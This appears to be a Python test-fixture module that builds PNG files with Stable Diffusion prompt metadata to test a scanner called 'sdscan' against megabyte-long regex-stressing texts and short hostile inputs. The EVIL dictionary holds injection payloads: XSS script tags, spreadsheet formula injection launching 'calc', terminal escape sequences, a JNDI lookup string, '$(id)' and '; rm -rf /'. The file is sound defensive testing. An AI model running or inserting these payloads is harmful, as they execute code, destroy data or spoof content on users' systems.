"""Texts: long ones that a regular expression could stumble over, and ones made to reach through to a terminal, a page or a sheet."""

from __future__ import annotations

from collections.abc import Iterator

from hostile import Case, Family
from spelled import text_chunk
from wholes import EVIDENCE, INFOTEXT, png_with

MB = 1_000_000
TAIL = "\nNegative prompt: lowres\nSteps: 20, Sampler: Euler a, CFG scale: 7, Seed: 1, Size: 512x512"


def parameters(text: str) -> bytes:
    return png_with(text_chunk(b"parameters", text.encode("utf-8", "surrogatepass")))


def long_texts() -> Iterator[Case]:
    """About a megabyte each, of what is ambiguous to one expression or another; the name stands before it."""
    fillers: dict[str, str] = {
        "open-parens": "(" * MB, "open-brackets": "[" * MB, "braces": "{" * MB, "pipes": "{a|" * (MB // 3), "choices": "{a|b}" * (MB // 5),
        "nested-choices": "{a|" * 200_000 + "}" * 200_000, "close-parens": ")" * MB, "pairs": "()" * (MB // 2), "nested": "(" * (MB // 2) + ")" * (MB // 2),
        "weights": "(a:1.1)," * (MB // 8), "open-weights": "(a:1.1" * (MB // 6), "colons": ":" * MB, "escapes": "\\" * MB, "escaped-parens": "\\(" * (MB // 2),
        "commas": "," * MB, "spaces": " " * MB, "tabs": "\t" * MB, "newlines": "\n" * MB, "carriage-returns": "\r" * MB, "dots": "." * MB,
        "quotes": '"' * MB, "quoted-pairs": 'a: "' * (MB // 4), "apostrophes": "'" * MB, "apostrophe-words": "a'" * (MB // 2), "underscores": "_" * MB,
        "dashes": "-" * MB, "at-signs": "@" * MB, "addresses": "a@a." * (MB // 4), "address-dots": "a@" + "a." * (MB // 2), "home-paths": "C:\\Users\\" * (MB // 9),
        "home-slashes": "/home/" * (MB // 6), "keys": "sk-" * (MB // 3), "letters": "a" * MB, "digits": "1" * MB, "words": "a " * (MB // 2),
        "loras": "<lora:x:1>" * (MB // 10), "open-loras": "<lora:" * (MB // 6), "lora-colons": "<lora:" + ":" * MB, "lora-name": "<lora:" + "x" * MB + ":1>",
        "angle": "<" * MB, "embeddings": "embedding:x, " * (MB // 13), "tags": "tag1, " * (MB // 6), "names": f"{EVIDENCE}, " * (MB // 14),
        "distinct-names": ", ".join(f"{EVIDENCE} {i}" for i in range(50_000)), "by-by": "by " * (MB // 3), "style-of": "in the style of " * (MB // 16),
        "break-words": "BREAK " * (MB // 6), "and-words": "AND " * (MB // 4), "pipes-plain": "|" * MB, "percents": "%" * MB, "wildcards": "__a__" * (MB // 5),
        "negative-markers": "\nNegative prompt: a" * (MB // 19), "templates": "\nTemplate: a" * (MB // 12), "steps-lines": "\nSteps: 20" * (MB // 10),
        "steps-inline": " Steps: 20," * (MB // 11), "pairs-plain": ", Steps: 20, Seed: 1" * (MB // 20), "json-values": ', a: {"b": [' * (MB // 12),
        "cjk": "初音" * (MB // 6), "cjk-dots": "初・" * (MB // 6), "cjk-spaces": "初 " * (MB // 4), "kana": "ミク" * (MB // 6), "hangul": "하" * (MB // 3),
        "combining": "a" + "\u0301" * (MB // 2), "many-marks": ("a" + "\u0301" * 30) * (MB // 61), "ligatures": "ﷺ" * (MB // 3), "wide": "ｍｉｋｕ" * (MB // 12),
        "emoji": "👩‍👩‍👧‍👦" * (MB // 25), "bidi": "\u202e" * (MB // 3), "zero-width": "\u200b" * (MB // 3), "nuls": "\0" * MB, "controls": "\x1b[31m" * (MB // 5),
        "replacement": "\ufffd" * (MB // 3), "surrogates": "\ud800" * (MB // 3), "astral": "\U0001f600" * (MB // 4), "private-use": "\ue000" * (MB // 3),
        "random-unicode": "".join(chr(0x100 + i * 7919 % 0x2FF00) for i in range(200_000) if not 0xD800 <= 0x100 + i * 7919 % 0x2FF00 < 0xE000),
    }  # fmt: skip
    for label, filler in fillers.items():
        text = f"{EVIDENCE}, {filler}{TAIL}"
        yield Case(f"words-{label}.png", lambda text=text: parameters(text), "scanned", text=EVIDENCE)  # type: ignore[misc]
    yield Case("words-prompt-8mb.png", lambda: parameters(f"{EVIDENCE}, " + "word, " * (7 * MB // 6) + TAIL), "unreadable", "limit-prompt", text=EVIDENCE)
    yield Case("words-name-behind-1mb.png", lambda: parameters("word, " * (2 * MB // 6) + EVIDENCE + TAIL), "unreadable", "limit-prompt")
    yield Case("words-million-pairs.png", lambda: parameters(INFOTEXT + "".join(f", k{i}: v" for i in range(500_000))), "unreadable", "limit-parameters", text=EVIDENCE)
    yield Case("words-million-loras.png", lambda: parameters("".join(f"<lora:l{i}:1>" for i in range(60_000)) + TAIL), "unreadable", "limit-resources")
    yield Case("words-million-hashes.png", lambda: parameters(INFOTEXT + ', Lora hashes: "' + ", ".join(f"l{i}: abcdef012345" for i in range(50_000)) + '"'), "unreadable", "limit-resources", text=EVIDENCE)  # fmt: skip


EVIL = {
    "markup": "[bold red]x[/] [link=file:///etc/passwd]y[/link] [by greg rutkowski]",
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\ \x9b31m",
    "script": "</script><script>alert(1)</script><img src=x onerror=alert(1)><!--",
    "html": "<b>&lt;&amp;&#x3c;</b> javascript:alert(1) \u2028\u2029 </textarea></title></style>",
    "formula": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "csv": 'a","b"\r\n"c,"=1+1"',
    "workflow-command": "\n::error file=x::y%0A\n::set-output name=a::b\n::add-mask::x",
    "markdown": "| a | b |\n|---|---|\n[x](javascript:alert(1)) ![i](http://x/y.png) `code` <details>",
    "xml": "]]><x a=\"'&</failure></testcase>",
    "bidi": "user\u202eexe.gnp \u2066x\u2069 \u200f\u061c",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x85\x9b\x9f",
    "nul": "a\0b",
    "surrogates": "\ud800 \udfff \udc00\ud800",
    "lines": "a\nb\rc\u0085d\u2028e\u2029f\x0bg\x0ch",
    "backspaces": "good\x08\x08\x08\x08evil \r overwritten",
    "tags": "\U000e0041\U000e0042 \ufeff\u00ad\u2060",
    "format": "%s %n {0} {x.__class__} ${jndi:ldap://x} $(id) `id` ; rm -rf /",
}  # fmt: skip


def evil_texts() -> Iterator[Case]:
    """Short texts that mean something to a program behind sdscan. The name stands beside them and must be found."""
    for label, evil in EVIL.items():
        yield Case(f"evil-{label}.png", parameters(f"{EVIDENCE}, {evil}{TAIL}"), "scanned", text=EVIDENCE)
        yield Case(f"evil-first-{label}.png", parameters(f"{evil}, {EVIDENCE}{TAIL}"), "scanned")
        yield Case(f"evil-lora-{label}.png", parameters(f"{EVIDENCE} <lora:{evil.replace('>', '').replace(':', '')[:200]}:1>{TAIL}, Model: {evil[:80]}"), "scanned")
        key = evil.replace("\0", "").encode("utf-8", "surrogatepass")
        yield Case(f"evil-key-{label}.png", png_with(text_chunk(key, INFOTEXT.encode())), "scanned", text=EVIDENCE)


FAMILIES: dict[str, Family] = {"long-texts": long_texts, "evil-texts": evil_texts}
